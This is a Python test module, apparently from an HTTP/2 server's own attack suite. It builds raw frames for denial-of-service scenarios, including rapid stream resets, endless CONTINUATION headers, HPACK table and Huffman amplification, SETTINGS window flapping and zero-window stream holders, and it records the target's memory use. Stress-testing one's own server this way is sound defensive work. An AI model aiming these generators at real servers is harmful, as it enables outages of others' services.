"""HTTP/2 against streams: requests that are taken back within their response, windows that never open, single bytes.

python -m tests.attack.frames [NAME ...] [--seconds 5] [--tree DIR]

``ended`` says by what connections were ended, as in `tests.attack.floods`; `tests.attack.streams` has small windows.
"""

from __future__ import annotations

import itertools
import socket
import struct
import time
from collections.abc import Iterator
from functools import partial

from hpack import Encoder

from tests.attack.floods import (
    AT_ONCE,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    flood,
    frame,
)
from tests.attack.memory import Peak, settled
from tests.attack.runner import MIB, Attack, Figures, Victim, main
from tests.attack.streams import FUNCTIONS, LINES

__all__ = ["ATTACKS", "FUNCTIONS"]

_HOLDERS = 10
_STREAMS = 100


def _head(stream: int, path: str, *, method: str = "GET", flags: int = END_STREAM | END_HEADERS) -> bytes:
    fields = [(":method", method), (":path", path), (":scheme", "http"), (":authority", "localhost")]
    fields += [("accept", LINES), ("content-type", LINES)]
    return frame(HEADERS, flags, stream, Encoder().encode(fields))


def _taken_back(path: str, method: str = "GET") -> Iterator[bytes]:
    """A stream is begun, and reset a hundred requests later, when its response has."""
    flags = END_HEADERS | (END_STREAM if method == "GET" else 0)
    for stream in itertools.count(1, 2):
        back = frame(RST_STREAM, 0, stream - 100, b"\0\0\0\x08") if stream > 100 else b""
        yield _head(stream, path, method=method, flags=flags) + back


def _bytes(size: int) -> Iterator[bytes]:
    yield _head(1, "/echo", method="POST", flags=END_HEADERS)
    yield from itertools.repeat(frame(DATA, 0, 1, b"\n" * size) * AT_ONCE)


def _windows() -> Iterator[bytes]:
    """A hundred streams whose windows grow and shrink by SETTINGS."""
    yield b"".join(_head(stream, "/mute", method="POST", flags=END_HEADERS) for stream in range(1, 200, 2))
    pair = (frame(SETTINGS, 0, 0, struct.pack("!HI", 4, size)) for size in (0, 65535))
    yield from itertools.repeat(b"".join(pair) * AT_ONCE)


def _unended() -> Iterator[bytes]:
    """Heads that never end, by CONTINUATION of a few bytes and of many."""
    yield _head(1, "/echo", flags=0)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * AT_ONCE)


def _table() -> Iterator[bytes]:
    """A field of 4 KiB is put into the table once, and then named thousands of times by one byte."""
    for stream in itertools.count(1, 2):
        long = b"\x40\x01a\x7f" + b"\x81\x1e" + b"b" * 4000
        yield _head(stream, "/page", flags=0)
        yield frame(CONTINUATION, END_HEADERS, stream, long + b"\xbe" * 8000)


def _huffman() -> Iterator[bytes]:
    """Heads of 240 KiB that have to be decoded bit by bit before their size is known."""
    yield _head(1, "/page", flags=0)
    text = b"\x18" * (15 * 16_000)
    name = b"\x00\x01a\xff" + _integer(len(text) - 127)
    block = name + text
    parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
    for part in parts[:-1]:
        yield frame(CONTINUATION, 0, 1, part)
    yield frame(CONTINUATION, END_HEADERS, 1, parts[-1])


def _integer(rest: int) -> bytes:
    """What follows of an integer of HPACK."""
    made = bytearray()
    while rest > 127:
        made.append(rest & 127 | 128)
        rest >>= 7
    return bytes((*made, rest))


def _holders(window: int, victim: Victim, seconds: float) -> Figures:
    """A thousand streams in ten connections, for whose responses there is no window."""
    socks: list[socket.socket] = []
    try:
        with Peak(victim) as peak:
            for _ in range(_HOLDERS):
                sock = socket.create_connection(victim.http_host, timeout=10)
                socks.append(sock)
                begin = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, window))
                sock.sendall(begin + b"".join(_head(2 * one + 1, "/endless") for one in range(_STREAMS)))
            time.sleep(seconds)
    finally:
        for sock in socks:
            sock.close()
    after, _ = settled(victim)
    return {"streams": _HOLDERS * _STREAMS, "peak MiB": peak.bytes // MIB, "after MiB": after // MIB}


ATTACKS: dict[str, Attack] = {
    "taken back": partial(flood, partial(_taken_back, "/endless")),
    "taken back sync": partial(flood, partial(_taken_back, "/endless_sync")),
    "taken back bodies": partial(flood, partial(_taken_back, "/echo", "POST")),
    "byte by byte": partial(flood, partial(_bytes, 1)),
    "settings of streams": partial(flood, _windows),
    "continuation": partial(flood, _unended),
    "huffman": partial(flood, lambda: itertools.chain(_huffman(), itertools.repeat(b"\0" * 9))),
    "table": partial(flood, _table),
    "no window": partial(_holders, 0),
    "a window of a byte": partial(_holders, 1),
}

if __name__ == "__main__":
    main(ATTACKS, FUNCTIONS)
